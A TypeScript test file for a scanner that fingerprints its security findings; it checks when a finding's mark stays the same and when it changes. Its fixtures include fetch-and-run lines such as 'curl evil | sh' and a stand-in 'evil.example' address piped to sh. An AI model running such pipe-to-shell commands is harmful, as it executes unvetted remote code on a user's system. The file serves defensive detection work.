import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../shared/model/findings.ts';
import { sha256 } from '../digest.ts';
import { markOf, markWithoutBytes } from './finding-mark.ts';

const place = (start: number, end: number) => ({
  ...{ start, end, line: 1, column: 1, endLine: 1, endColumn: 1 },
});

/** A finding at every place of `what` in the text. */
function at(text: string, what: string, more: Partial<Finding> = {}) {
  const bytes = Buffer.from(text);
  const places: ReturnType<typeof place>[] = [];
  for (let from = bytes.indexOf(what); from !== -1; from = bytes.indexOf(what, from + 1))
    places.push(place(from, from + what.length));
  const [first = place(0, 0), ...related] = places;
  const finding = {
    rule: 'X01',
    digest: sha256(bytes),
    confidence: 'high',
    decoded: null,
    excerpt: what,
    place: first,
    related,
    count: places.length,
    ...more,
  } as Finding;
  return { finding, bytes };
}
const mark = (text: string, what = 'curl', more: Partial<Finding> = {}): string => {
  const { finding, bytes } = at(text, what, more);
  return markOf(finding, bytes);
};

describe('the mark of a finding', () => {
  it('is the same where the file changed on other lines', () => {
    expect(mark('a\ncurl x | sh\nb\n')).toBe(mark('more\nmore\ncurl x | sh\n'));
  });

  it.each([
    ['what follows on the line', 'curl x | sh\n', 'curl evil | sh\n'],
    ['what stands before it on the line', 'echo; curl x\n', 'sudo; curl x\n'],
    ['a second place', 'curl a\ncurl b\n', 'curl a\ncurl evil\n'],
    ['one more place', 'curl a\n', 'curl a\ncurl a\n'],
    ['a line without an end', 'curl a', 'curl b'],
  ])('is another one with %s', (_, before, after) => {
    expect(mark(before)).not.toBe(mark(after));
  });

  it('is another one where it is what the rule looks for and was probably something else', () => {
    expect(mark('curl a', 'curl', { confidence: 'low' })).not.toBe(mark('curl a'));
  });

  it('is another one where other code of the file is, which may give an address its name', () => {
    const [ours, evil] = ['https://ours.example', 'https://evil.example'].map((address) => {
      const text = `URL=${address}\ncurl "$URL" | sh\n`;
      return mark(text, 'curl', { about: sha256(text) });
    });
    expect(ours).not.toBe(evil);
  });

  it('goes by the whole file where the line is too long, or not all places are known', () => {
    const long = 'x'.repeat(5_000);
    expect(mark(`${long}curl a${long}\n`)).not.toBe(mark(`${long}curl a${long}\nmore\n`));
    const some = { count: 60 };
    expect(mark('curl a\nz\n', 'curl', some)).not.toBe(mark('curl a\ny\n', 'curl', some));
    expect(mark('curl a\nz\n', 'curl', some)).toBe(mark('curl a\nz\n', 'curl', some));
  });

  it('does not end within bytes: a place at the very start or end of a file has one', () => {
    expect(mark('curl')).toBe(mark('curl\nmore'));
    expect(mark('more\ncurl')).toBe(mark('curl'));
  });

  it('goes without bytes by the excerpt, and by the file where that was cut or there are more', () => {
    const of = (text: string, more: Partial<Finding>): string =>
      markWithoutBytes(at(text, 'curl', more).finding);
    expect(of('curl a', {})).toBe(of('curl b', {}));
    expect(of('curl a', { excerpt: 'c'.repeat(200) })).not.toBe(
      of('curl b', { excerpt: 'c'.repeat(200) }),
    );
    expect(of('curl a', { count: 2 })).not.toBe(of('curl b', { count: 2 }));
  });
});
